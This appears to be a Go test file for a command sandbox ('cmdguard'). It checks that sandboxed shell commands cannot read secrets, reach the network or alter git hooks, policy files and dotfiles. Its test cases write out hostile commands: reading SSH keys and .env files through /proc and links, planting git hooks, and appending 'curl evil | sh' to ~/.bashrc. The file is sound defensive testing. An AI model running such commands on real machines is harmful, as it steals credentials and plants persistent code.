package cmdguard

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"net"
	"os"
	osexec "os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/cmdguard/cmdguard/exec"
	"github.com/cmdguard/cmdguard/internal/sandboxplan"
	"github.com/cmdguard/cmdguard/policy"
)

// These tests run commands through the executor with the sandbox the
// Guard builds from a project's policy and ignore files, the gate
// bypassed, so that only the sandbox stands. Each case also runs without
// the sandbox and must then reach the secret or change the protected
// file: a case that cannot fail proves nothing. .ci/run runs them as root
// and as a normal user.

const sbSecret = "TOPSECRET-51c9"

// sbProject is a throwaway project: a Go module with an ignored package,
// an npm package with node_modules, a Makefile, a .env, a git repository
// with one commit, and a home directory with credentials.
type sbProject struct {
	t            *testing.T
	tmp, root    string
	home, gitDir string
}

func (p *sbProject) env() []string {
	return []string{
		"PATH=" + os.Getenv("PATH"),
		"HOME=" + p.home,
		"DIR=" + p.root,
		"GOCACHE=" + goCache(),
		"GOPATH=" + filepath.Join(p.tmp, "gopath"),
		"GOTOOLCHAIN=local",
		"GOPROXY=off",
		"GOFLAGS=-mod=mod",
		"GIT_CONFIG_NOSYSTEM=1",
		"npm_config_cache=" + filepath.Join(p.tmp, "npmcache"),
		"npm_config_update_notifier=false",
	}
}

// goCache returns the build cache of the tests' own user, so that the
// projects' go test does not build everything anew.
var goCache = sync.OnceValue(func() string {
	if c := os.Getenv("GOCACHE"); c != "" {
		return c
	}
	if out, err := osexec.Command("go", "env", "GOCACHE").Output(); err == nil {
		return strings.TrimSpace(string(out))
	}
	return filepath.Join(os.TempDir(), "cmdguard-test-gocache")
})

func (p *sbProject) git(args ...string) {
	p.t.Helper()
	cmd := osexec.Command("git", args...)
	cmd.Dir, cmd.Env = p.root, p.env()
	if out, err := cmd.CombinedOutput(); err != nil {
		p.t.Fatalf("git %s: %v\n%s", strings.Join(args, " "), err, out)
	}
}

func (p *sbProject) guard() *Guard {
	p.t.Helper()
	g, err := OpenPolicy(filepath.Join(p.root, ".cmdguard.yaml"))
	if err != nil {
		p.t.Fatal(err)
	}
	return g
}

// run runs command in the project, in the sandbox the Guard builds when
// sandboxed is set, without asking the gate.
func (p *sbProject) run(command string, sandboxed bool) (exec.Result, error) {
	p.t.Helper()
	g := p.guard()
	req := RunRequest{Request: Request{Command: command, BaseEnv: p.env()}, Sandbox: true}
	c := exec.Cmd{Command: command, Dir: p.root, Env: p.env(), HardTimeout: 2 * time.Minute}
	if sandboxed {
		c.Sandbox = g.sandbox(req, g.Policy())
	}
	return exec.Run(context.Background(), c)
}

func (p *sbProject) mustRun(command string, sandboxed bool) exec.Result {
	p.t.Helper()
	r, err := p.run(command, sandboxed)
	if err != nil {
		p.t.Fatalf("run %q (sandboxed %v): %v", command, sandboxed, err)
	}
	return r
}

const sbPolicy = "version: 1\ndefault: allow\nsandbox:\n  network: false\n"

func TestSandboxHidesSecrets(t *testing.T) {
	t.Parallel()
	// need: the programs a case runs beyond bash, Go, git and the basic
	// tools; without them it reaches nothing, in or out of the sandbox.
	cases := []struct {
		name, command string
		need          []string
	}{
		{"cat", `cat .env`, nil},
		{"python", `python3 -c "print(open('.env').read())"`, []string{"python3"}},
		{"go doc of an ignored package", `go doc example.com/p/internal/vault`, nil},
		{"GIT_GRAFT_FILE", `GIT_GRAFT_FILE=.env git log 2>&1`, nil},
		{"pem by pattern", `cat certs/server.pem`, nil},
		{"home credentials", `cat ~/.ssh/id_ed25519`, nil},
		{"symlink made inside", `ln -s .env l && cat l`, nil},
		{"hard link made inside", `ln .env h; cat h`, nil},
		{"proc self root", `cat /proc/self/root$DIR/.env`, nil},
		{"proc of the caller", `cat /proc/$PPID/root$DIR/.env`, nil},
		{"cd", `cd internal && cd vault && cat vault.go`, nil},
		{"cd out and back", `cd / && cd "$DIR/internal/../internal/vault" && cat *`, nil},
		{"grep -r", `grep -r ` + sbSecret + ` . ~`, nil},
		{"through .git/..", `cat .git/../.env`, nil},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			for _, p := range c.need {
				needProgram(t, p)
			}
			if r := newSBProject(t, sbPolicy, false).mustRun(c.command, false); !strings.Contains(sbOutput(r), sbSecret) {
				t.Fatalf("without the sandbox, %q does not reach the secret, so this case proves nothing:\n%s", c.command, sbOutput(r))
			}
			r := newSBProject(t, sbPolicy, false).mustRun(c.command, true)
			if strings.Contains(sbOutput(r), sbSecret) {
				t.Errorf("in the sandbox, %q read the secret:\n%s", c.command, sbOutput(r))
			}
			if r.Sandbox == nil || !r.Sandbox.Applied {
				t.Errorf("report %+v, want applied", r.Sandbox)
			}
		})
	}
}

// TestSandboxHardLinks: a hard link to a secret made before the run is
// hidden too; one outside the project refuses the run.
func TestSandboxHardLinks(t *testing.T) {
	t.Parallel()
	p := newSBProject(t, sbPolicy, false)
	if err := os.Link(filepath.Join(p.root, ".env"), filepath.Join(p.root, "notes.txt")); err != nil {
		t.Fatal(err)
	}
	if r := p.mustRun("cat notes.txt", false); !strings.Contains(sbOutput(r), sbSecret) {
		t.Fatalf("without the sandbox: %s", sbOutput(r))
	}
	if r := p.mustRun("cat notes.txt", true); strings.Contains(sbOutput(r), sbSecret) {
		t.Errorf("in the sandbox, a hard link made before the run reads the secret: %s", sbOutput(r))
	}
	if err := os.Link(filepath.Join(p.root, ".env"), filepath.Join(p.tmp, "outside")); err != nil {
		t.Fatal(err)
	}
	marker := filepath.Join(p.root, "ran")
	_, err := p.run("touch "+marker, true)
	if err == nil || !strings.Contains(err.Error(), "hard link") {
		t.Errorf("with a hard link outside the project: err = %v, want a refusal naming the hard link", err)
	}
	if _, err := os.Stat(marker); err == nil {
		t.Errorf("with a hard link outside the project, the command ran")
	}
}

func TestSandboxProtectsProject(t *testing.T) {
	t.Parallel()
	cases := []struct {
		name, command string
		separate      bool
		check         func(p *sbProject) error
	}{
		{"hook", `printf '#!/bin/sh\necho pwned\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit`, false, hookAbsent},
		{"config", `printf '[core]\n\thooksPath = /tmp\n' >> .git/config`, false, configKept},
		{"config through a separate git dir", `printf '[core]\n\thooksPath = /tmp\n' >> "$(git rev-parse --git-dir)/config"`, true, configKept},
		{"hook through a separate git dir", `echo evil > "$(git rev-parse --git-common-dir)/hooks/pre-commit"`, true, hookAbsent},
		{"git file repointed", `echo "gitdir: /tmp/evil" > .git`, true, func(p *sbProject) error {
			if data, _ := os.ReadFile(filepath.Join(p.root, ".git")); !strings.Contains(string(data), p.gitDir) {
				return fmt.Errorf(".git now %q", data)
			}
			return nil
		}},
		{"git dir renamed", `mv .git .git.old && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit`, false, hookAbsent},
		{"policy", `echo 'version: 1' > .cmdguard.yaml; python3 -c "open('.cmdguard.yaml','w').write('x')"`, false, unchanged(".cmdguard.yaml", sbPolicy)},
		{"ignore file", `: > .cmdguardignore`, false, unchanged(".cmdguardignore", "internal/vault/\n")},
		{"shell start-up file", `echo 'curl evil | sh' >> ~/.bashrc`, false, unchanged("../home/.bashrc", "# rc\n")},
		{"git config of the person", `git config --global core.pager 'sh -c evil'`, false, unchanged("../home/.gitconfig", "[user]\n\tname = T\n\temail = t@example.com\n")},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			if strings.Contains(c.command, "python3") {
				needProgram(t, "python3") // else its second write is not tried
			}
			p := newSBProject(t, sbPolicy, c.separate)
			p.mustRun(c.command, false)
			if c.check(p) == nil {
				t.Fatalf("without the sandbox, %q changes nothing, so this case proves nothing", c.command)
			}
			p = newSBProject(t, sbPolicy, c.separate)
			r := p.mustRun(c.command, true)
			if err := c.check(p); err != nil {
				t.Errorf("in the sandbox, %q: %v\n%s", c.command, err, sbOutput(r))
			}
		})
	}
}

func hookAbsent(p *sbProject) error {
	if _, err := os.Lstat(filepath.Join(p.gitDir, "hooks/pre-commit")); err == nil {
		return errors.New("hooks/pre-commit was written")
	}
	return nil
}

func configKept(p *sbProject) error {
	if data, _ := os.ReadFile(filepath.Join(p.gitDir, "config")); bytes.Contains(data, []byte("hooksPath")) {
		return fmt.Errorf("config now %q", data)
	}
	return nil
}

func unchanged(rel, want string) func(p *sbProject) error {
	return func(p *sbProject) error {
		if data, err := os.ReadFile(filepath.Join(p.root, rel)); err != nil || string(data) != want {
			return fmt.Errorf("%s now %q (%v)", rel, data, err)
		}
		return nil
	}
}

func TestSandboxNoNetwork(t *testing.T) {
	t.Parallel()
	needProgram(t, "python3")
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			c.Write([]byte("hello from outside\n"))
			c.Close()
		}
	}()
	cmd := fmt.Sprintf(`python3 -c "
import socket
print(socket.create_connection(('127.0.0.1', %d)).recv(100).decode())"`, ln.Addr().(*net.TCPAddr).Port)
	p := newSBProject(t, sbPolicy, false)
	if r := p.mustRun(cmd, false); !strings.Contains(sbOutput(r), "hello from outside") {
		t.Fatalf("without the sandbox: %s", sbOutput(r))
	}
	r := p.mustRun(cmd, true)
	if strings.Contains(sbOutput(r), "hello from outside") {
		t.Errorf("with network: false, a port outside the sandbox was reached: %s", sbOutput(r))
	}
	if r.Sandbox.Network {
		t.Errorf("report %+v, want network false", r.Sandbox)
	}
}

// TestSandboxOrdinaryWork: a developer's usual commands work in the
// sandbox.
func TestSandboxOrdinaryWork(t *testing.T) {
	t.Parallel()
	cases := []struct {
		name, command, want string
		need                []string
	}{
		{"go test", `go test ./... 2>&1`, "ok  \texample.com/p", nil},
		{"go build", `go build -o /dev/null . && echo built`, "built", nil},
		{"npm test", `npm test 2>&1`, "npm test ok", []string{"npm", "node"}},
		{"git commit", `echo change >> main.go && git commit -qam change && git log --oneline | wc -l`, "2\n", nil},
		{"make", `make -s && cat out.txt`, "built\n", []string{"make"}},
		{".env.example is not hidden", `cat .env.example`, "changeme", nil},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			for _, p := range c.need {
				needProgram(t, p)
			}
			r := newSBProject(t, sbPolicy, false).mustRun(c.command, true)
			if !strings.Contains(string(r.Stdout.Data), c.want) || r.ShellCode() != 0 {
				t.Errorf("%q in the sandbox: %s, want %q in\n%s", c.command, r.Explain(), c.want, sbOutput(r))
			}
		})
	}
}

// TestSandboxThroughTheGate runs, through Guard.Run, commands the gate
// allows (default: allow) though they read a secret it cannot see: the
// sandbox is what stops them. It checks the report and the policy's
// enabled: switch.
func TestSandboxThroughTheGate(t *testing.T) {
	t.Parallel()
	// Without python3, go doc alone leaks: the sandboxed runs would not
	// try the second read.
	needProgram(t, "python3")
	const cmd = `go doc example.com/p/internal/vault; python3 -c "print(open('.e'+'nv').read())"`
	for _, c := range []struct {
		policy    string
		force     bool
		sandboxed bool
	}{
		// The gate asks for go doc of a package name (ignore.unknown_ref):
		// re-rated to allow, so that only the sandbox stands.
		{"version: 1\ndefault: allow\nrules: {ignore.unknown_ref: allow}\n", false, false},
		{"version: 1\ndefault: allow\nrules: {ignore.unknown_ref: allow}\n", true, true},
		{sbPolicy + "rules: {ignore.unknown_ref: allow}\n", false, true},
		{"version: 1\ndefault: allow\nrules: {ignore.unknown_ref: allow}\nsandbox: {enabled: false}\n", false, false},
	} {
		p := newSBProject(t, c.policy, false)
		d, r, err := p.guard().Run(context.Background(), RunRequest{Request: Request{Command: cmd, BaseEnv: p.env()}, Sandbox: c.force})
		if err != nil || d.Verdict != Allow {
			t.Fatalf("%q: %s, %v: %s", c.policy, d.Verdict, err, d.Summary())
		}
		leaked := strings.Contains(sbOutput(r), sbSecret)
		if leaked == c.sandboxed || (r.Sandbox != nil) != c.sandboxed {
			t.Errorf("policy %q, force %v: leaked %v, report %+v", c.policy, c.force, leaked, r.Sandbox)
		}
		if c.sandboxed && (r.Sandbox.Hidden < 4 || r.Sandbox.Protected < 5) {
			t.Errorf("policy %q: report %+v, want ≥ 4 hidden (.env, certs/server.pem, internal/vault, ~/.ssh) and ≥ 5 protected", c.policy, r.Sandbox)
		}
	}
}

// BenchmarkSandboxPaths measures what the Guard does before each
// sandboxed run: load the hide patterns, walk the project, look for hard
// links, find the git directory. The project has 10,000 files in 100
// directories, 100 of them hidden (*.key), plus node_modules.
func BenchmarkSandboxPaths(b *testing.B) {
	g := benchProject(b)
	b.ReportAllocs()
	for b.Loop() {
		sb := g.sandbox(RunRequest{Sandbox: true}, g.Policy())
		if sb.Err != nil || len(sb.Hide) < 100 {
			b.Fatalf("%v, %d hidden", sb.Err, len(sb.Hide))
		}
	}
}

// BenchmarkSandboxAfter measures what the Guard does after each
// sandboxed run in the project of BenchmarkSandboxPaths: look for the
// protected paths that were absent and for new policy and ignore files
// (here, none).
func BenchmarkSandboxAfter(b *testing.B) {
	g := benchProject(b)
	sb := g.sandbox(RunRequest{Sandbox: true}, g.Policy())
	if sb.Err != nil || sb.After == nil {
		b.Fatalf("%v", sb.Err)
	}
	b.ReportAllocs()
	for b.Loop() {
		if q := sb.After(); len(q) != 0 {
			b.Fatalf("quarantined %+v", q)
		}
	}
}

// TestSandboxProtectsRego: the policy's Rego modules are policy too.
func TestSandboxProtectsRego(t *testing.T) {
	t.Parallel()
	const module = "package cmdguard\n\ndeny contains \"no rm\" if input.commands[_].argv[0] == \"rm\"\n"
	const cmd = `echo 'package cmdguard' > policies/rm.rego`
	for _, sandboxed := range []bool{false, true} {
		p := newSBProject(t, sbPolicy, false)
		if err := os.MkdirAll(filepath.Join(p.root, "policies"), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(p.root, "policies/rm.rego"), []byte(module), 0o644); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(p.root, ".cmdguard.yaml"), []byte(sbPolicy+"rego: [policies/*.rego]\n"), 0o644); err != nil {
			t.Fatal(err)
		}
		p.mustRun(cmd, sandboxed)
		data, _ := os.ReadFile(filepath.Join(p.root, "policies/rm.rego"))
		if kept := string(data) == module; kept != sandboxed {
			t.Errorf("sandboxed %v: module kept = %v, want %v", sandboxed, kept, sandboxed)
		}
	}
}

// TestSandboxHideOrder: a "!" among the hide: patterns (the default's
// "!.env.example") does not re-include what the policy's ignore: list
// ignores; without that entry, .env.example stays visible.
func TestSandboxHideOrder(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		policy string
		hidden bool
	}{
		{sbPolicy, false},
		{sbPolicy + "ignore: [.env.example]\n", true},
	} {
		p := newSBProject(t, c.policy, false)
		g := p.guard()
		sb := g.sandbox(RunRequest{Request: Request{BaseEnv: p.env()}}, g.Policy())
		if sb == nil || sb.Err != nil {
			t.Fatalf("%q: %+v", c.policy, sb)
		}
		got := slices.Contains(sb.Hide, filepath.Join(p.root, ".env.example"))
		if got != c.hidden || !slices.Contains(sb.Hide, filepath.Join(p.root, ".env")) {
			t.Errorf("%q: .env.example hidden = %v, want %v (hide: %q)", c.policy, got, c.hidden, sb.Hide)
		}
	}
}

// TestSandboxProtectsLinkedDotfile: a start-up file that is a symbolic
// link (stow, chezmoi) can be neither written through nor replaced.
func TestSandboxProtectsLinkedDotfile(t *testing.T) {
	t.Parallel()
	const cmd = `echo 'curl evil | sh' >> ~/.bashrc; rm -f ~/.bashrc; echo 'curl evil | sh' > ~/.bashrc`
	for _, sandboxed := range []bool{false, true} {
		p := newSBProject(t, sbPolicy, false)
		rc := filepath.Join(p.home, ".bashrc")
		if err := os.MkdirAll(filepath.Join(p.home, "dotfiles"), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.Rename(rc, filepath.Join(p.home, "dotfiles/bashrc")); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink("dotfiles/bashrc", rc); err != nil {
			t.Fatal(err)
		}
		r := p.mustRun(cmd, sandboxed)
		link, _ := os.Readlink(rc)
		data, _ := os.ReadFile(rc)
		kept := link == "dotfiles/bashrc" && string(data) == "# rc\n"
		if kept != sandboxed {
			t.Errorf("sandboxed %v: ~/.bashrc kept = %v (link %q, content %q)\n%s", sandboxed, kept, link, data, sbOutput(r))
		}
	}
}

// TestSandboxProtectsSubmodule: a submodule's git directory (in
// .git/modules/) has a config and hooks that git runs too.
func TestSandboxProtectsSubmodule(t *testing.T) {
	t.Parallel()
	const cmd = `echo evil > .git/modules/sub/hooks/pre-commit; printf '[core]\n\thooksPath = /tmp\n' >> .git/modules/sub/config`
	for _, sandboxed := range []bool{false, true} {
		p := newSBProject(t, sbPolicy, false)
		sub := filepath.Join(p.tmp, "subrepo")
		for _, args := range [][]string{{"init", "-q", sub}, {"-C", sub, "commit", "-q", "--allow-empty", "-m", "s"},
			{"-c", "protocol.file.allow=always", "submodule", "-q", "add", sub, "sub"}} {
			p.git(args...)
		}
		moddir := filepath.Join(p.root, ".git/modules/sub")
		before, err := os.ReadFile(filepath.Join(moddir, "config"))
		if err != nil {
			t.Fatal(err)
		}
		r := p.mustRun(cmd, sandboxed)
		after, _ := os.ReadFile(filepath.Join(moddir, "config"))
		_, hookErr := os.Lstat(filepath.Join(moddir, "hooks/pre-commit"))
		kept := bytes.Equal(before, after) && hookErr != nil
		if kept != sandboxed {
			t.Errorf("sandboxed %v: submodule config and hooks kept = %v\n%s", sandboxed, kept, sbOutput(r))
		}
	}
}

// TestSandboxProtectHardLinks: a hard link to a protected file, made
// before the run, is protected too; one outside the project refuses it.
func TestSandboxProtectHardLinks(t *testing.T) {
	t.Parallel()
	const cmd = `printf '[core]\n\thooksPath = /tmp\n' >> cfg-link`
	for _, sandboxed := range []bool{false, true} {
		p := newSBProject(t, sbPolicy, false)
		if err := os.Link(filepath.Join(p.gitDir, "config"), filepath.Join(p.root, "cfg-link")); err != nil {
			t.Fatal(err)
		}
		r := p.mustRun(cmd, sandboxed)
		if kept := configKept(p) == nil; kept != sandboxed {
			t.Errorf("sandboxed %v: config kept = %v\n%s", sandboxed, kept, sbOutput(r))
		}
	}
	p := newSBProject(t, sbPolicy, false)
	if err := os.Link(filepath.Join(p.gitDir, "config"), filepath.Join(p.tmp, "outside")); err != nil {
		t.Fatal(err)
	}
	if _, err := p.run("true", true); err == nil || !strings.Contains(err.Error(), "protected file") {
		t.Errorf("a hard link to .git/config outside the project: err = %v, want a refusal", err)
	}
}

// TestSandboxQuarantine: what a sandboxed command creates where nothing
// may be created — a protected path that did not exist, a new policy or
// ignore file anywhere in the project — is moved aside when it ends and
// reported, so that the next command (unsandboxed, or checked anew) is
// not affected. Each case first runs unsandboxed, where the next command
// must be affected: otherwise the case proves nothing.
func TestSandboxQuarantine(t *testing.T) {
	t.Parallel()
	cases := []struct {
		name, command, created string // created: relative to the project, or ~/…
		// affected runs the next command and says whether it was changed
		affected func(p *sbProject) bool
	}{
		// A copy of the git directory, with a hook, named by a new
		// commondir: git then reads config and hooks from the copy.
		{"commondir", `cp -r .git "$DIR/../evil" && printf '#!/bin/sh\necho PWNED-BY-HOOK\n' > "$DIR/../evil/hooks/pre-commit" &&
			chmod +x "$DIR/../evil/hooks/pre-commit" && echo "$DIR/../evil" > .git/commondir`, ".git/commondir",
			func(p *sbProject) bool {
				r := p.mustRun("git commit -q --allow-empty -m x 2>&1; git rev-parse --git-common-dir", false)
				return strings.Contains(sbOutput(r), "PWNED-BY-HOOK") || strings.Contains(sbOutput(r), "evil")
			}},
		{"bash_profile", `echo 'echo PWNED-BY-PROFILE' > ~/.bash_profile`, "~/.bash_profile",
			func(p *sbProject) bool {
				return strings.Contains(sbOutput(p.mustRun("bash -l -c true", false)), "PWNED-BY-PROFILE")
			}},
		{"nested ignore file", `printf '!key.txt\n' > private/.cmdguardignore`, "private/.cmdguardignore",
			func(p *sbProject) bool {
				return strings.Contains(sbOutput(p.mustRun("cat private/key.txt", true)), sbSecret)
			}},
		{"nested git repository", `git init -q sub && printf '#!/bin/sh\necho PWNED-BY-HOOK\n' > sub/.git/hooks/pre-commit &&
			chmod +x sub/.git/hooks/pre-commit`, "sub/.git",
			func(p *sbProject) bool {
				return strings.Contains(sbOutput(p.mustRun("cd sub && git commit -q --allow-empty -m x 2>&1", false)), "PWNED-BY-HOOK")
			}},
		{"nested policy file", `mkdir -p sub/deeper && printf 'version: 1\ndefault: allow\n' > sub/deeper/.cmdguard.yaml`, "sub/deeper/.cmdguard.yaml",
			func(p *sbProject) bool {
				found, _, _ := policy.Find(filepath.Join(p.root, "sub/deeper"))
				return found != filepath.Join(p.root, ".cmdguard.yaml")
			}},
	}
	setup := func(t *testing.T) *sbProject {
		p := newSBProject(t, sbPolicy, false)
		if err := os.WriteFile(filepath.Join(p.root, ".cmdguardignore"), []byte("internal/vault/\nkey.txt\n"), 0o644); err != nil {
			t.Fatal(err)
		}
		if err := os.MkdirAll(filepath.Join(p.root, "private"), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(p.root, "private/key.txt"), []byte(sbSecret+"\n"), 0o644); err != nil {
			t.Fatal(err)
		}
		return p
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			p := setup(t)
			p.mustRun(c.command, false)
			if !c.affected(p) {
				t.Fatalf("without the sandbox, %q does not affect the next command: the case proves nothing", c.command)
			}
			p = setup(t)
			created := filepath.Join(p.root, c.created)
			if rest, ok := strings.CutPrefix(c.created, "~/"); ok {
				created = filepath.Join(p.home, rest)
			}
			r := p.mustRun(c.command, true)
			if _, err := os.Lstat(created); err == nil {
				t.Errorf("%s is still there after the sandboxed run", created)
			}
			if c.affected(p) {
				t.Errorf("after the sandboxed %q, the next command is affected", c.command)
			}
			if strings.HasPrefix(c.created, "~/") {
				// The home is read-only in the sandbox (here, under
				// /tmp: in the run's own /tmp layer): the file never
				// reached it, nothing to quarantine.
				return
			}
			var q *exec.Quarantined
			for i := range r.Sandbox.Quarantined {
				if r.Sandbox.Quarantined[i].Path == created {
					q = &r.Sandbox.Quarantined[i]
				}
			}
			if q == nil || q.Reason == "" || q.Error != "" {
				t.Fatalf("report %+v, want %s quarantined with a reason", r.Sandbox.Quarantined, created)
			}
			if _, err := os.Lstat(q.MovedTo); err != nil || !strings.Contains(q.MovedTo, ".cmdguard-quarantined-") {
				t.Errorf("moved to %q: %v", q.MovedTo, err)
			}
		})
	}
}

// TestSandboxQuarantineDefaultPolicy: under the embedded default policy,
// a .cmdguard.yaml created in the root would take over from the next
// check on; a sandboxed command that makes one has it moved aside.
func TestSandboxQuarantineDefaultPolicy(t *testing.T) {
	t.Parallel()
	root, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	if out, err := osexec.Command("git", "init", "-q", root).CombinedOutput(); err != nil {
		t.Fatalf("%v %s", err, out)
	}
	g, err := Open(root)
	if err != nil {
		t.Fatal(err)
	}
	pf := filepath.Join(root, ".cmdguard.yaml")
	sb := g.sandbox(RunRequest{Sandbox: true, Request: Request{BaseEnv: []string{"HOME=" + root}}}, g.Policy())
	if sb.Err != nil || !slices.Contains(sb.Absent, pf) {
		t.Fatalf("absent %q (%v), want %s among them", sb.Absent, sb.Err, pf)
	}
	r, err := exec.Run(context.Background(), exec.Cmd{Command: `printf 'version: 1\ndefault: allow\n' > .cmdguard.yaml`, Dir: root, Sandbox: sb})
	if err != nil || r.ShellCode() != 0 {
		t.Fatalf("%v %s", err, r.Explain())
	}
	if _, err := os.Lstat(pf); err == nil {
		t.Errorf("%s is still there", pf)
	}
	if len(r.Sandbox.Quarantined) != 1 || r.Sandbox.Quarantined[0].Path != pf || r.Sandbox.Quarantined[0].Reason != sandboxplan.WhyPolicy {
		t.Errorf("quarantined %+v", r.Sandbox.Quarantined)
	}
}

// TestSandboxHomeConfigBecomesCode: a sandboxed command that plants a
// start-up file the person's ~/.bashrc sources (Debian's default sources
// ~/.bash_aliases; the protect list names ~/.bashrc, not what it
// includes) must not run code at the next unsandboxed interactive bash;
// without the sandbox it does (and with the previous, writable-home
// sandbox it did too).
func TestSandboxHomeConfigBecomesCode(t *testing.T) {
	t.Parallel()
	const plant = `echo 'echo PWNED-BY-ALIASES' > ~/.bash_aliases`
	for _, sandboxed := range []bool{false, true} {
		p := newSBProject(t, sbPolicy, false)
		rc := "if [ -f ~/.bash_aliases ]; then . ~/.bash_aliases; fi\n"
		if err := os.WriteFile(filepath.Join(p.home, ".bashrc"), []byte(rc), 0o644); err != nil {
			t.Fatal(err)
		}
		r := p.mustRun(plant, sandboxed)
		next := sbOutput(p.mustRun("bash -i -c true </dev/null 2>&1", false))
		if !sandboxed {
			if !strings.Contains(next, "PWNED-BY-ALIASES") {
				t.Fatalf("without the sandbox, bash -i did not run the planted code: the case proves nothing\n%s\n%s", sbOutput(r), next)
			}
			continue
		}
		if !r.Sandbox.Applied {
			t.Fatalf("sandbox not applied: %+v", r.Sandbox)
		}
		if strings.Contains(next, "PWNED-BY-ALIASES") {
			t.Errorf("after the sandboxed plant, bash -i ran it\n%s", next)
		}
	}
}
